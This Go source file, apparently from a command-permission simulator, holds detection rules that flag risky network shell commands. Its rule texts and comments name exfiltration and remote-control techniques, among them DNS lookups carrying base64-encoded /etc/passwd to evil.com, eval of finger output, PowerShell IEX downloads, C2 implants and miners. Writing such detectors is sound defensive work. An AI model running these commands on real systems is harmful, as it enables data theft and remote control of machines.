package danger

import (
	"path"
	"slices"
	"strings"

	"github.com/permsim/permsim/engine/shell"
)

// The machine's network, and channels out of it that are not upload
// commands (issue 30, round 3). Each family is a mechanism the tools' own
// documentation names, not a line a collection wrote:
//
//   - networkConfig: the programs that own the machine's interfaces,
//     addresses, routes, wifi, name, proxy and tunnel devices, in their
//     forms that change them (README: disk-system); their display forms
//     stay unmarked;
//   - displayOpened, icmpPayload, dnsNameCarriesFile, channelCommands,
//     mailAttachment: a display, a file's bytes or a shell handed to
//     another host by X, ping, DNS names, finger/whois loops and mail
//     (README: network-exfiltration);
//   - fetchedThenRun: a file fetched and run in one script, in the
//     spellings of wget's and curl's file names and of an archive unpacked
//     (README: download-execute).

func init() {
	addRuleTexts(map[string]string{
		"networkConfig":      "the machine's network configuration changed: an interface configured (ifconfig IF ARG, ip OBJECT add|set|del…), wifi (iwconfig IF ARG, iw … set|connect, nmcli … on|off|up|modify), sysctl KEY=VALUE|-p, hostname NAME, arp -s|-d, ethtool -s|-K, tc|brctl|bridge changes, ifup/ifdown, dhclient, rfkill block, macchanger, tunnel devices (ssh -w, sshuttle, ICMP/DNS tunnels), ipmitool lan set, the desktop proxy",
		"displayOpened":      "the X display opened to other hosts (xhost +HOST) or a terminal shown on another host's display (-display HOST:N, DISPLAY=HOST:N)",
		"icmpPayload":        "ping -p with a pattern computed at run time, or hping3 --file: a file's bytes sent in ICMP payloads",
		"dnsNameCarriesFile": "a DNS client or ping looking up a name built from a file's content ($(cat FILE | base64).HOST)",
		"channelCommands":    "commands read from finger, whois, DNS or a raw socket and run (eval \"$(finger …)\"): a shell served over that channel",
		"mailAttachment":     "mail sent with a local file attached (-a, -A, --attach) or as its body (< FILE)",
		"fetchedThenRun":     "a file fetched (wget/curl default names, -P DIR, --output-dir, fetch, aria2c, tee of a download, scp/rsync/tftp from a host, nc's output) or unpacked from a fetched archive, then run in the same script",
		"bucketToBucket":     "an object copied from one cloud bucket into another bucket",
		"pasted":             "a local file posted to a paste or gist service (pastebinit, gist, gh gist create|edit)",
		"pipedFileSent":      "a file's content, a database, repository or image dump, or the clipboard, screen or microphone captured (served to whoever connects too), piped into nc, socat, telnet, mail, rclone rcat or an upload of standard input by curl or wget, to another host",
		"minerRun":           "a cryptocurrency miner run (xmrig, cpuminer, …, or a stratum+tcp:// pool given)",
		"argCarriesFile":     "curl, wget or httpie sending a local file's content in an argument computed from it (a URL, -d \"$(cat FILE)\")",
		"readLoopSent":       "a file encoded (xxd, base64, od) and read line by line, each line sent in a DNS name or a URL (xxd -p F | while read l; do dig $l.HOST; done)",
		"uploadOfVariable":   "curl or wget uploading a file named by a variable (-T \"$f\", -d @$f, -F file=@$f, --post-file=$f)",
		"servedShell":        "a shell served to other hosts: a terminal server given a shell (ttyd, gotty, websocketd), a shared session (tmate, sshx, upterm host), the Docker API on TCP or relayed from its socket, a remote-access port exposed (bore, lt, a socat relay or ssh -g/-L 0.0.0.0 forward to :22)",
		"servedRoot":         "a file server serving / or the home folder (ruby httpd, caddy file-server --root, twistd web --path, rclone serve)",
		"transferPut":        "a file-transfer client's upload (croc|wormhole|sendme|portal|qrcp send FILE (not --text), onionshare-cli FILE, woof FILE, asciinema upload, megaput, ncftpput, tftp -p -l, lftp put, s3api put-object --body, oci object put, b2 upload-file, socat FILE: to TCP:)",
		"c2Agent":            "a command-and-control implant started (CALDERA's sandcat, dnscat2's client, Merlin's agent, icmpsh)",
		"remoteRun":          "deno, uv or bun told to run a program from a URL",
		"powershellFetchRun": "PowerShell fetching a script and running it (IEX … DownloadString, iwr … | iex)",
	})
}

// network runs this file's rules on one command.
func (c *checker) network(u unit) {
	cmd, name, ok := u.program()
	if !ok {
		return
	}
	c.networkConfig(cmd, name)
	c.displayOpened(cmd, name)
	c.icmpPayload(cmd, name)
	c.dnsNameCarriesFile(cmd, name, u.dir)
	c.channelCommands(cmd, name)
	c.mailAttachment(cmd, name)
	c.bucketToBucket(cmd, name)
	c.pasted(cmd, name)
	c.minerRun(cmd, name)
	c.powershellFetchRun(cmd, name)
	c.argCarriesFile(cmd, name, u.dir)
	c.remoteRun(cmd, name)
	c.uploadOfVariable(cmd, name)
	c.servedShell(cmd, name)
	c.servedRoot(cmd, name, u.dir)
	c.transferPut(cmd, name)
	c.c2Agent(cmd, name)
}

// plainWords are args' literal words that are not options, stopping at
// the first word that is not literal; valued are options whose next word
// is their value (skipped with it).
func plainWords(args []shell.Word, valued ...string) []string {
	var out []string
	for i := 0; i < len(args); i++ {
		a := args[i]
		if !a.Literal {
			break
		}
		if strings.HasPrefix(a.Lit, "-") && len(a.Lit) > 1 {
			if slices.Contains(valued, a.Lit) {
				i++
			}
			continue
		}
		out = append(out, a.Lit)
	}
	return out
}

// prefixOf reports whether w abbreviates one of full (at least min letters,
// or the whole word), as ip, tc and nmcli accept.
func prefixOf(w string, min int, full ...string) bool {
	for _, f := range full {
		if w == f || len(w) >= min && strings.HasPrefix(f, w) {
			return true
		}
	}
	return false
}

// helpOnly reports a command that only asks for help or a version.
func helpOnly(args []shell.Word) bool {
	return hasLit(args, "-h", "--help", "-?", "--version", "-V", "help")
}

// networkConfig marks disk-system a program that owns part of the
// machine's network run in a form that changes it (networkChanged).
func (c *checker) networkConfig(cmd *shell.Command, name string) {
	if c.networkChanged(cmd, name) {
		c.add(DiskSystem)
	}
}

// networkChanged reports a program that owns part of the machine's network
// run in a form that changes it. Each case names its tool's display forms,
// which are left alone.
func (c *checker) networkChanged(cmd *shell.Command, name string) bool {
	args := cmd.Args
	if helpOnly(args) && name != "ifconfig" {
		return false
	}
	w := c.plainWords(args)
	switch name {
	case "ifconfig":
		// ifconfig(8): no operand, or an interface alone, displays;
		// anything after the interface (an address, up, netmask, mtu,
		// hw, promisc) configures it.
		// An address family alone ("ifconfig en0 inet") only narrows what
		// is shown.
		if len(w) >= 2 && !(len(w) == 2 && slices.Contains([]string{"inet", "inet6", "link", "ether"}, w[1])) {
			c.because(append([]string{name}, w...)...)
			return true
		}
	case "ip":
		return c.ipChanges(name, args)
	case "iwconfig", "iwpriv":
		// iwconfig(8): "iwconfig [interface]" displays; a parameter after
		// the interface (essid, mode, retry, txpower, key, …) sets it.
		// iwpriv's get* commands read.
		if len(w) >= 2 && !(name == "iwpriv" && strings.HasPrefix(w[1], "get")) {
			c.because(name, w[0], w[1])
			return true
		}
	case "iw":
		for _, v := range w {
			if slices.Contains([]string{"set", "connect", "disconnect", "del", "add", "join", "leave", "switch", "new", "offchannel", "start", "stop"}, v) {
				c.because(name, v)
				return true
			}
		}
	case "nmcli":
		return c.nmcliChanges(name, args)
	case "sysctl":
		// sysctl(8): "variable=value" (with or without -w) sets a key;
		// -p/--load and --system load settings files.
		for _, a := range args {
			if strings.Contains(a.Raw, "=") && !strings.HasPrefix(a.Raw, "-") ||
				a.Literal && (a.Lit == "-p" || a.Lit == "--load" || strings.HasPrefix(a.Lit, "--load=") || a.Lit == "--system" || a.Lit == "-w" || a.Lit == "--write") {
				c.because(name, a.Raw)
				return true
			}
		}
	case "hostname":
		// hostname(1): a name operand, -F/--file or -b sets the name.
		if len(plainWords(args, "-F", "--file")) > 0 || hasLit(args, "-F", "--file", "-b", "--boot") {
			c.because(name)
			return true
		}
	case "arp":
		return hasLit(args, "-s", "--set", "-S", "-d", "--delete", "-f", "--file")
	case "ethtool":
		// ethtool(8): lower-case options show, their upper-case (and
		// long) twins change the device.
		return hasLit(args, "-s", "--change", "-K", "--features", "--offload", "-A", "--pause", "-C", "--coalesce",
			"-G", "--set-ring", "-L", "--set-channels", "-E", "--change-eeprom", "-f", "--flash", "-r", "--negotiate",
			"-X", "--set-rxfh-indir", "-N", "-U", "--config-nfc", "--config-ntuple", "--set-eee", "--set-fec",
			"--set-priv-flags", "--set-tunable", "--set-phy-tunable", "--reset")
	case "tc", "bridge":
		// tc(8), bridge(8): OBJECT add|del|change|replace|set|flush.
		if len(w) >= 2 && prefixOf(w[1], 1, "add", "delete", "del", "change", "replace", "set", "flush", "append", "link") && !prefixOf(w[1], 1, "show", "list", "ls", "get") {
			c.because(name, w[0], w[1])
			return true
		}
	case "brctl":
		return len(w) > 0 && !slices.Contains([]string{"show", "showmacs", "showstp"}, w[0])
	case "ifup", "ifdown":
		return !hasLit(args, "-n", "--no-act")
	case "dhclient", "dhcpcd":
		// An interface named gets an address, -r/-x/-k give it back; the
		// bare program is left alone (dev's label i1069-like lines).
		return !hasLit(args, "-T", "--test", "-U", "--dumplease") && (len(w) > 0 || hasLit(args, "-r", "-x", "-k", "--release"))
	case "rfkill":
		return len(w) > 0 && slices.Contains([]string{"block", "unblock", "toggle"}, w[0])
	case "macchanger":
		return !hasLit(args, "-s", "--show", "-l", "--list")
	case "ssh", "autossh":
		// ssh(1) -w local:remote makes tun devices on both machines;
		// "-o Tunnel=…" asks for one.
		for i, a := range args {
			if !a.Literal {
				continue
			}
			if (a.Lit == "-w" || len(a.Lit) > 2 && a.Lit[0] == '-' && a.Lit[1] != '-' && strings.HasSuffix(a.Lit, "w") && !strings.ContainsAny(a.Lit, "=/")) && i+1 < len(args) {
				c.because(name, a.Lit)
				return true
			}
			o := strings.ToLower(strings.TrimPrefix(a.Lit, "-o"))
			if a.Lit == "-o" && i+1 < len(args) {
				o = strings.ToLower(args[i+1].Lit)
			}
			if strings.HasPrefix(o, "tunnel=") && !strings.HasSuffix(o, "=no") || strings.HasPrefix(o, "tunnel ") {
				c.because(name, a.Lit)
				return true
			}
		}
	case "sshuttle", "hans", "iodine", "iodined", "icmptunnel":
		// sshuttle's routes and firewall rules, ICMP and DNS tunnels' tun
		// device and its address. A VPN client brought up or down is the
		// user's own everyday (dev's label of "wg-quick down"), so
		// wg-quick, openvpn and tailscale are not here.
		return len(args) > 0
	case "netplan":
		return len(w) > 0 && slices.Contains([]string{"apply", "try", "set"}, w[0])
	case "airmon-ng":
		return len(w) > 0 && slices.Contains([]string{"start", "stop", "check"}, w[0]) && (w[0] != "check" || slices.Contains(w, "kill"))
	case "ipmitool":
		// ipmitool(1) lan set: the BMC's address, gateway, access.
		for i := 0; i+1 < len(w); i++ {
			if (w[i] == "lan" || w[i] == "lan6") && w[i+1] == "set" {
				c.because(name, w[i], w[i+1])
				return true
			}
		}
	case "ipconfig":
		// macOS ipconfig(8): set IF DHCP|MANUAL…, setverbose; get* read.
		return len(w) > 0 && (w[0] == "set" || w[0] == "setv6")
	case "airport":
		// macOS's airport: -z leaves the network, -c sets the channel;
		// -I, -s print.
		return hasLit(args, "-z", "--disassociate") || slices.ContainsFunc(args, func(a shell.Word) bool {
			return a.Lit == "-c" || strings.HasPrefix(a.Lit, "-c") && len(a.Lit) > 2 || strings.HasPrefix(a.Lit, "--channel=")
		})
	case "gsettings":
		if len(w) >= 2 && w[0] == "set" && strings.HasPrefix(w[1], "org.gnome.system.proxy") {
			c.because(name, w[0], w[1])
			return true
		}
	case "resolvectl":
		// resolvectl(1): "dns LINK SERVER…", "domain LINK DOMAIN…" set a
		// link's resolvers; with the link alone they print.
		if len(w) >= 3 && slices.Contains([]string{"dns", "domain", "default-route", "llmnr", "mdns", "dnssec", "dnsovertls", "nta"}, w[0]) || len(w) > 0 && w[0] == "revert" {
			return true
		}
	}
	return false
}

// ipChanges reports ip(8) OBJECT COMMAND where the command changes the
// object (add, delete, change, replace, set, flush, …); show, list, get
// and monitor read. Objects and commands may be abbreviated as ip allows.
func (c *checker) ipChanges(name string, args []shell.Word) bool {
	w := plainWords(args, "-n", "-netns", "-b", "-batch", "-rc", "-rcvbuf", "-l", "-loops", "-f", "-family")
	if len(w) < 2 {
		return false
	}
	objects := []string{"link", "address", "addrlabel", "route", "rule", "neighbour", "neighbor", "ntable", "tunnel",
		"tuntap", "maddress", "mroute", "mrule", "netns", "l2tp", "fou", "macsec", "tcp_metrics", "token", "vrf",
		"nexthop", "mptcp", "xfrm", "sr", "ila", "ioam"}
	if !prefixOf(w[0], 1, objects...) {
		return false
	}
	for _, v := range w[1:min(len(w), 3)] {
		if prefixOf(v, 2, "show", "list", "lst", "get", "monitor", "help", "exec", "identify", "pids", "save") {
			return false
		}
		if prefixOf(v, 2, "add", "delete", "del", "change", "chg", "replace", "set", "flush", "append", "prepend",
			"restore", "attach", "update") || v == "a" || v == "d" {
			c.because(name, w[0], v)
			return true
		}
	}
	return false
}

// nmcliChanges reports nmcli(1) turning networking or a radio on or off,
// bringing a connection or device up or down, or adding, changing or
// deleting one; its show, status and list forms read.
func (c *checker) nmcliChanges(name string, args []shell.Word) bool {
	w := plainWords(args, "-f", "--fields", "-g", "--get-values", "-m", "--mode", "-c", "--colors", "-e", "--escape", "-w", "--wait")
	if len(w) < 2 {
		return false
	}
	obj, verb := w[0], w[1]
	changed := false
	switch {
	case prefixOf(obj, 1, "networking", "radio"):
		changed = slices.Contains(w[1:], "on") || slices.Contains(w[1:], "off")
	case prefixOf(obj, 1, "connection"):
		// A saved connection brought up is the user's own, as dev labels
		// "wg-quick down" (a VPN brought down and up again); adding,
		// changing or deleting one changes the machine's settings.
		changed = prefixOf(verb, 2, "add", "modify", "edit", "clone", "delete", "reload", "load", "import", "migrate")
	case prefixOf(obj, 1, "device"):
		changed = prefixOf(verb, 2, "connect", "disconnect", "delete", "set", "reapply", "modify", "up", "down") ||
			verb == "wifi" && len(w) > 2 && prefixOf(w[2], 2, "connect", "hotspot")
	case prefixOf(obj, 1, "general"):
		changed = verb == "hostname" && len(w) > 2 || verb == "reload" || verb == "logging" && len(w) > 2
	}
	if changed {
		c.because(append([]string{name}, w[:min(len(w), 3)]...)...)
	}
	return changed
}

// terminals are X terminal emulators: shown on a display, they hand a
// shell to whoever sits at it.
var terminals = map[string]bool{
	"xterm": true, "uxterm": true, "rxvt": true, "urxvt": true, "aterm": true, "eterm": true, "Eterm": true, "st": true,
	"konsole": true, "gnome-terminal": true, "xfce4-terminal": true, "mate-terminal": true, "lxterminal": true,
	"terminator": true, "tilix": true, "alacritty": true, "kitty": true, "mlterm": true,
}

// remoteDisplay reports an X display name (HOST:D[.S]) on another host.
func remoteDisplay(d string) bool {
	i := strings.LastIndexByte(d, ':')
	if i <= 0 {
		return false
	}
	host := strings.TrimSuffix(d[:i], ":") // DECnet's HOST::D
	return host != "localhost" && host != "unix" && host != "127.0.0.1" && host != "::1" && !strings.HasPrefix(host, "/")
}

// displayOpened flags xhost(1) granting hosts (or everyone, "xhost +")
// access to the display, and a terminal emulator shown on another host's
// display. "xhost +local:" and "+SI:localuser:NAME" admit local clients
// only.
func (c *checker) displayOpened(cmd *shell.Command, name string) {
	switch {
	case name == "xhost":
		for _, a := range cmd.Args {
			l := strings.ToLower(a.Lit)
			if a.Literal && strings.HasPrefix(l, "+") && l != "+local:" && !strings.HasPrefix(l, "+si:localuser:") && !strings.HasPrefix(l, "+si:localgroup:") {
				c.because(name, a.Lit)
				c.add(NetworkExfiltration)
				return
			}
		}
	case terminals[name]:
		for i, a := range cmd.Args {
			d := ""
			switch {
			case (a.Lit == "-display" || a.Lit == "--display" || a.Lit == "-d" && name != "xterm") && i+1 < len(cmd.Args):
				d = cmd.Args[i+1].Lit
			case strings.HasPrefix(a.Lit, "--display="), strings.HasPrefix(a.Lit, "-display="):
				_, d, _ = strings.Cut(a.Lit, "=")
			}
			if remoteDisplay(d) {
				c.because(name, a.Lit, d)
				c.add(NetworkExfiltration)
				return
			}
		}
		for _, as := range cmd.Assigns {
			if as.Name == "DISPLAY" && remoteDisplay(as.Value) {
				c.because("DISPLAY="+as.Value, name)
				c.add(NetworkExfiltration)
				return
			}
		}
	}
}

// icmpPayload flags ping -p PATTERN where the pattern is computed at run
// time (a file's bytes, a chunk at a time: a fixed pattern carries
// nothing), and hping3 -E/--file FILE, which sends the file's data.
func (c *checker) icmpPayload(cmd *shell.Command, name string) {
	args := cmd.Args
	switch name {
	case "ping", "ping6":
		for i, a := range args {
			if a.Literal && a.Lit == "-p" && i+1 < len(args) && !args[i+1].Literal ||
				!a.Literal && strings.HasPrefix(a.Raw, "-p") {
				c.because(name, "-p", a.Raw)
				c.add(NetworkExfiltration)
				return
			}
		}
	case "hping", "hping2", "hping3":
		for i, a := range args {
			if (a.Lit == "-E" || a.Lit == "--file") && i+1 < len(args) && args[i+1].Lit != "/dev/null" {
				c.because(name, a.Lit, args[i+1].Raw)
				c.add(NetworkExfiltration)
				return
			}
		}
	}
}

// dnsClients look names up (or, ping, make the resolver look one up).
var dnsClients = map[string]bool{
	"dig": true, "nslookup": true, "host": true, "drill": true, "kdig": true, "delv": true, "ping": true, "ping6": true,
	"traceroute": true, "resolvectl": true, "getent": true,
}

// fileEncoders print a file operand's content (as is or encoded).
var fileEncoders = map[string]bool{
	"cat": true, "base64": true, "base32": true, "basenc": true, "xxd": true, "od": true, "hexdump": true, "head": true,
	"tail": true, "strings": true, "gzip": true, "bzip2": true, "xz": true, "zstd": true, "tac": true, "uuencode": true,
}

// identityFiles hold only the machine's name or zone: sending one says
// no more than $(hostname) does (dev6's label: $(whoami) in a name is
// everyday).
var identityFiles = map[string]bool{"/etc/hostname": true, "/etc/timezone": true, "/proc/sys/kernel/hostname": true}

// dnsNameCarriesFile flags a DNS lookup of a name built from a file's
// content ("dig $(cat /etc/passwd | base64).evil.com"): the name's labels
// reach the domain's server. A substitution that prints no file
// ($(whoami), $(hostname)) sends no file, and one that is the whole word
// (a server address, "@$(…)") is not a name carrying it.
func (c *checker) dnsNameCarriesFile(cmd *shell.Command, name, dir string) {
	if !dnsClients[name] {
		return
	}
	for _, a := range cmd.Args {
		if a.Literal || !(strings.Contains(a.Raw, ").") || strings.Contains(a.Raw, "`.")) || strings.HasPrefix(a.Raw, "@") {
			continue
		}
		s := shell.Parse(": " + a.Raw)
		for i := range s.Commands {
			in := &s.Commands[i]
			reads := slices.ContainsFunc(in.Files(), func(f shell.FileUse) bool { return f.Read && f.Path != "/dev/null" && !identityFiles[f.Path] })
			if !reads && !in.Dynamic && fileEncoders[path.Base(in.Name)] {
				reads = slices.ContainsFunc(operands(in.Args), func(w shell.Word) bool { return !identityFiles[w.Lit] }) ||
					slices.ContainsFunc(in.Redirects, func(r shell.Redirect) bool { return r.Read })
			}
			if reads {
				c.because(name, a.Raw)
				c.add(NetworkExfiltration)
				return
			}
		}
	}
}

// channelClients fetch text from another host over a channel that is not
// a download: finger, whois, DNS, raw sockets.
var channelClients = map[string]bool{
	"finger": true, "whois": true, "dig": true, "nslookup": true, "host": true, "drill": true, "nc": true,
	"ncat": true, "netcat": true, "telnet": true, "socat": true,
}

// channelCommands flags commands read from such a channel and run by
// eval or a shell's -c ("eval $(finger "$X"@HOST)" in a loop, the line's
// output sent back in the next query): the README's C2 loops, a shell
// served to that host.
func (c *checker) channelCommands(cmd *shell.Command, name string) {
	if name != "eval" && !shellNames[name] {
		return
	}
	for _, a := range cmd.Args {
		if a.Literal {
			continue
		}
		s := shell.Parse(": " + a.Raw)
		for i := range s.Commands {
			if n := path.Base(s.Commands[i].Name); channelClients[n] && !s.Commands[i].Dynamic {
				c.because(name, n)
				c.add(NetworkExfiltration)
				return
			}
		}
	}
}

// mailers send mail whose body is their standard input.
var mailers = map[string]bool{"mail": true, "mailx": true, "s-nail": true, "nail": true, "bsd-mailx": true, "mutt": true, "neomutt": true, "sendmail": true}

// mailAttachment flags mail sent with a local file attached: mail/mailx/
// s-nail/mutt -a FILE (GNU mail's -a is a header, "-a 'From: …'", its
// attachment -A), sendEmail -a, swaks --attach, mpack FILE ADDRESS, or
// the file as the body (mail … < FILE).
func (c *checker) mailAttachment(cmd *shell.Command, name string) {
	args := cmd.Args
	file := ""
	switch name {
	case "mail", "mailx", "s-nail", "nail", "bsd-mailx", "mutt", "neomutt", "sendEmail", "sendemail", "sendmail":
		for i, a := range args {
			if !a.Literal || i+1 >= len(args) {
				continue
			}
			v := args[i+1].Raw
			if a.Lit == "-A" || a.Lit == "--attach" || a.Lit == "-a" && !strings.Contains(v, ":") && name != "sendmail" {
				file = v
				break
			}
			if strings.HasPrefix(a.Lit, "--attach=") {
				file = strings.TrimPrefix(a.Lit, "--attach=")
				break
			}
		}
		if file == "" && name != "sendEmail" && name != "sendemail" {
			for _, r := range cmd.Redirects {
				if p, ok := shell.PathOf(r.Target); ok && r.Read && p != "/dev/null" && !strings.HasPrefix(p, "/dev/fd/") {
					file = p
				}
			}
		}
	case "swaks":
		for i, a := range args {
			if (a.Lit == "--attach" || a.Lit == "--attach-body" || a.Lit == "--body") && i+1 < len(args) {
				if v := args[i+1].Lit; strings.HasPrefix(v, "@") || strings.ContainsAny(v, "/.") {
					file = v
				}
			}
		}
	case "mpack":
		if ops := operands(args); len(ops) >= 2 {
			file = ops[len(ops)-2].Raw
		}
	}
	if file != "" {
		c.because(name, file)
		c.add(NetworkExfiltration)
	}
}

// archiveExts are the endings of archives whose unpacked folder is named
// after them.
var archiveExts = []string{".tar.gz", ".tar.xz", ".tar.bz2", ".tar.zst", ".tgz", ".tbz2", ".txz", ".tar", ".zip", ".7z"}

// unpackers extract archives.
var unpackers = map[string]bool{"tar": true, "bsdtar": true, "gtar": true, "unzip": true, "7z": true, "7za": true}

// detachRunners run the program given as their first operand (not stripped as
// wrappers by engine/shell).
var detachRunners = map[string]bool{"screen": true, "tmux": true, "setsid": true, "daemonize": true, "nohup": true, "timeout": true}

// fetchedThenRun flags a script that fetches a file and then runs it, in
// the spellings downloadThenRun does not read: wget's URL without a
// scheme (named after its last part), wget -P DIR and curl --output-dir
// DIR, and a program run from the folder a fetched archive unpacks to
// ("tar -xf xmrig-6.11.2-linux-x64.tar.gz; ./xmrig-6.11.2/xmrig").
func (c *checker) fetchedThenRun(units [][]unit) {
	fetched := map[string]bool{}
	type unpacked struct{ dir, stem string }
	var folders []unpacked
	piped := map[int]string{} // a pipeline's download, by its URL's last part
	for _, us := range units {
		for _, u := range us {
			cmd := &u.cmd
			if cmd.Dynamic || cmd.Name == "" {
				continue
			}
			name := path.Base(cmd.Name)
			for _, p := range runTargets(cmd, name) {
				abs := shell.Resolve(p, u.dir, c.home)
				if fetched[abs] {
					c.because(name, p)
					c.add(DownloadExecute)
					return
				}
				for _, f := range folders {
					rel, ok := strings.CutPrefix(abs, f.dir+"/")
					first, _, inside := strings.Cut(rel, "/")
					// Inside the archive's folder, or, beside it, the
					// program a release asset is named after
					// ("tool_linux_amd64.zip" holding "tool").
					if ok && (inside || len(first) >= 3) && (first == f.stem || len(first) >= 3 && strings.HasPrefix(f.stem, first)) {
						c.because(name, p)
						c.add(DownloadExecute)
						return
					}
				}
			}
			switch {
			case name == "curl" || name == "wget" || name == "fetch" || name == "lwp-download" || name == "aria2c":
				for _, t := range fetchedNames(cmd, name) {
					fetched[shell.Resolve(t, u.dir, c.home)] = true
				}
				if url := urlOperand(cmd); url != "" {
					piped[cmd.Pipeline] = path.Base(url)
				}
			case name == "scp" || name == "rsync" || name == "sftp" || name == "tftp" || rawSenders[name]:
				for _, t := range receivedNames(cmd, name) {
					fetched[shell.Resolve(t, u.dir, c.home)] = true
				}
			case name == "tee" && cmd.Pipeline != 0 && piped[cmd.Pipeline] != "":
				// "curl URL | tee i.sh": the download is written to i.sh.
				for _, o := range c.plainWords(cmd.Args) {
					fetched[shell.Resolve(o, u.dir, c.home)] = true
				}
			case unpackers[name] && cmd.Pipeline != 0 && piped[cmd.Pipeline] != "":
				// "curl -L URL | tar xz": the archive comes down the pipe.
				stem := piped[cmd.Pipeline]
				for _, e := range archiveExts {
					if s, ok := strings.CutSuffix(stem, e); ok {
						folders = append(folders, unpacked{unpackDir(cmd, u.dir, c.home), s})
						break
					}
				}
			case unpackers[name]:
				for _, o := range cmd.Args {
					if !o.Literal || !fetched[shell.Resolve(o.Lit, u.dir, c.home)] {
						continue
					}
					stem := path.Base(o.Lit)
					for _, e := range archiveExts {
						if s, ok := strings.CutSuffix(stem, e); ok {
							folders = append(folders, unpacked{unpackDir(cmd, u.dir, c.home), s})
							break
						}
					}
				}
			}
		}
	}
}

// unpackDir is the folder an unpacker extracts into: tar(1)'s -C DIR or
// --directory=DIR, unzip(1)'s -d DIR, 7z's -oDIR; else dir.
func unpackDir(cmd *shell.Command, dir, home string) string {
	args := cmd.Args
	for i, a := range args {
		if !a.Literal {
			continue
		}
		switch {
		case (a.Lit == "-C" || a.Lit == "--directory" || a.Lit == "-d" && path.Base(cmd.Name) == "unzip") && i+1 < len(args) && args[i+1].Literal:
			return shell.Resolve(args[i+1].Lit, dir, home)
		case strings.HasPrefix(a.Lit, "--directory="):
			return shell.Resolve(strings.TrimPrefix(a.Lit, "--directory="), dir, home)
		case strings.HasPrefix(a.Lit, "-o") && len(a.Lit) > 2 && strings.HasPrefix(path.Base(cmd.Name), "7z"):
			return shell.Resolve(a.Lit[2:], dir, home)
		}
	}
	return dir
}

// runTargets are the paths a command runs: its own name when it is a
// path, a shell or interpreter's script operand, or a runner's program.
func runTargets(cmd *shell.Command, name string) []string {
	var out []string
	if strings.Contains(cmd.Name, "/") {
		out = append(out, cmd.Name)
	}
	if t := fileRunnerTarget(cmd); t != "" {
		out = append(out, t) // "java -jar x.jar", "wine setup.exe" (round 7)
	}
	if interpreters[name] || detachRunners[name] || name == "source" || name == "." {
		for _, a := range cmd.Args {
			if a.Literal && !strings.HasPrefix(a.Lit, "-") && (strings.Contains(a.Lit, "/") || !detachRunners[name]) {
				out = append(out, a.Lit) // a script operand, or a runner's program path
				if !detachRunners[name] {
					break
				}
			}
		}
	}
	return out
}

// fetchedNames are the files curl or wget writes, in the spellings
// downloadTargets leaves out: wget's default name for a URL with or
// without a scheme, joined to -P/--directory-prefix, and curl's -O name
// joined to --output-dir.
func fetchedNames(cmd *shell.Command, name string) []string {
	args := cmd.Args
	dir := ""
	for i, a := range args {
		switch {
		case name == "wget" && (a.Lit == "-P" || a.Lit == "--directory-prefix") && i+1 < len(args):
			dir = args[i+1].Lit
		case name == "wget" && strings.HasPrefix(a.Lit, "--directory-prefix="):
			dir = strings.TrimPrefix(a.Lit, "--directory-prefix=")
		case name == "wget" && strings.HasPrefix(a.Lit, "-P") && len(a.Lit) > 2:
			dir = a.Lit[2:]
		case name == "curl" && a.Lit == "--output-dir" && i+1 < len(args):
			dir = args[i+1].Lit
		}
	}
	var clustered []string // curl -Lo NAME, -sSLo NAME: a cluster ending in o
	for i, a := range args {
		if name == "curl" && i+1 < len(args) && len(a.Lit) > 2 && a.Lit[0] == '-' && a.Lit[1] != '-' &&
			strings.HasSuffix(a.Lit, "o") && strings.Trim(a.Lit[1:], "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ") == "" && args[i+1].Literal {
			clustered = append(clustered, args[i+1].Lit)
		}
	}
	if name == "fetch" || name == "lwp-download" || name == "aria2c" {
		// fetch(1) -o FILE, lwp-download URL [FILE], aria2c -o NAME -d DIR;
		// else the URL's last part.
		out := ""
		for i, a := range args {
			if (a.Lit == "-o" || a.Lit == "--out") && i+1 < len(args) {
				out = args[i+1].Lit
			}
			if name == "aria2c" && (a.Lit == "-d" || a.Lit == "--dir") && i+1 < len(args) {
				dir = args[i+1].Lit
			}
		}
		if ops := operands(args); name == "lwp-download" && len(ops) > 1 {
			out = ops[1].Lit
		}
		if url := urlOperand(cmd); out == "" && url != "" {
			out = path.Base(url)
		}
		if out == "" || out == "-" {
			return nil
		}
		if dir != "" && !strings.Contains(out, "/") {
			out = path.Join(dir, out)
		}
		return []string{out}
	}
	out := append(downloadTargets(cmd, name), clustered...)
	if name == "wget" && !slices.ContainsFunc(args, func(w shell.Word) bool {
		return strings.HasPrefix(w.Lit, "-O") || strings.HasPrefix(w.Lit, "--output-document") || w.Lit == "-i"
	}) {
		out = nil
		for _, o := range plainWords(args, "-P", "--directory-prefix", "-e", "--execute", "-o", "--output-file", "-a",
			"--append-output", "-t", "--tries", "-T", "--timeout", "-U", "--user-agent", "--header", "--user", "--password") {
			u, _, _ := strings.Cut(o, "?")
			if _, rest, ok := strings.Cut(u, "://"); ok {
				u = rest
			}
			if strings.HasSuffix(u, "/") {
				continue
			}
			out = append(out, path.Base(u))
		}
	}
	if dir != "" {
		for i, t := range out {
			if !strings.Contains(t, "/") {
				out[i] = path.Join(dir, t)
			}
		}
	}
	return out
}

// forwardSpec is the value of the ssh option cluster at args[i] that ends
// in (or holds) R: the next word, or what follows R in the same word.
func forwardSpec(args []shell.Word, i int) shell.Word {
	l := args[i].Lit
	at := strings.IndexByte(l, 'R')
	if at == len(l)-1 {
		if i+1 < len(args) {
			return args[i+1]
		}
		return shell.Word{}
	}
	return shell.Word{Lit: l[at+1:], Raw: l[at+1:], Literal: true}
}

// splitForward splits a forward spec at its colons, keeping a bracketed
// IPv6 address whole.
func splitForward(s string) []string {
	var out []string
	depth, start := 0, 0
	for i, r := range s {
		switch {
		case r == '[':
			depth++
		case r == ']':
			depth--
		case r == ':' && depth == 0:
			out = append(out, s[start:i])
			start = i + 1
		}
	}
	return append(out, s[start:])
}

// remoteForwardServes reports whether a reverse forward (ssh -R SPEC,
// chisel R:SPEC) opens this machine to the remote host as the README's
// network-exfiltration has it, a shell or desktop served: a forward to a
// remote-access port (shellPorts), to a local socket, or a dynamic one
// (-R [BIND:]PORT, R:socks: a proxy into this machine's network). A
// forward to another service's port ("-R 0.0.0.0:10521:127.0.0.1:1521",
// a web app's port) is a tunnel, which the README keeps everyday. A spec
// computed at run time is taken as serving.
func remoteForwardServes(spec shell.Word) bool {
	if !spec.Literal || spec.Lit == "" {
		return true
	}
	parts := splitForward(spec.Lit)
	last := parts[len(parts)-1]
	switch {
	case strings.EqualFold(last, "socks") || strings.HasPrefix(last, "/"):
		return true
	case len(parts) == 1, len(parts) == 2 && !isPort(parts[0]):
		return true // dynamic: [BIND:]PORT
	}
	return shellPorts[last]
}
